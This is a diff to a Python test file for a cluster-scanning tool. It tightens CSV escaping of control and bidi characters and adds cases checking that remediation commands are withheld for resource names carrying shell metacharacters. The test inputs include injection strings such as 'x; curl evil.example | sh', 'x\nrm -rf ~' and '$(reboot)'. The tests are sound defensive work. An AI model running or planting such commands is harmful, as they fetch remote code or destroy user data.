@@ -1,7 +1,7 @@
 """Bad input: each is one clear line on stderr and exit 2, never a traceback, nothing written where it should not.
 
 And hostile strings from a cluster (markup, template syntax, control characters, very long values) survive
-JSON/CSV intact and come out escaped in every other format and on the terminal.
+JSON intact and come out escaped in every other format (CSV: control characters as `\x1b`) and on the terminal.
 """
 
 from __future__ import annotations
@@ -468,12 +468,15 @@ def test_hostile_strings_are_kept_in_data_formats_and_escaped_everywhere_else(tm
     names = {r["name"] for r in doc["findings"]}
     assert HOSTILE in names and LONG in names
 
-    # CSV: one record per finding, values intact (the 200k name needs more than csv's default field limit).
+    # CSV: one record per finding, values kept but control and bidi characters shown as escapes (`cat` runs
+    # no terminal escape, a CR forges no row); the 200k name needs more than csv's default field limit.
     csv.field_size_limit(1 << 24)
     with (out / "findings.csv").open(newline="", encoding="utf-8") as fh:
         rows = list(csv.DictReader(fh))
     assert len(rows) == len(doc["findings"])
-    assert HOSTILE in {r["name"] for r in rows}
+    shown = (HOSTILE.replace("\x1b", "\\x1b").replace("\x07", "\\x07").replace("\x00", "\\x00")
+             .replace("\r", "\\x0d").replace("\u202e", "\\u202e"))
+    assert shown in {r["name"] for r in rows}
 
     # Copy-paste commands never carry the name unquoted: quoted as one shell word, or not shown at all.
     remediations = [r["remediation"] for r in doc["findings"] if r["name"] == HOSTILE and r["remediation"]]
@@ -586,7 +589,8 @@ class _NaiveCommand(ClusterCheck):
 
 
 @pytest.mark.parametrize("name, shown", [("cart", True), ("x; curl evil.example | sh", False),
-                                         ("x\nrm -rf ~", False), ("$(reboot)", False), ("system:auth-reader", True)])
+                                         ("x\nrm -rf ~", False), ("$(reboot)", False), ("system:auth-reader", True),
+                                         ("--all", False)])
 def test_commands_around_names_with_shell_metacharacters_are_withheld(tmp_path, name, shown):
     dep, _ = f.deployment("cart")
     dep["metadata"]["name"] = name
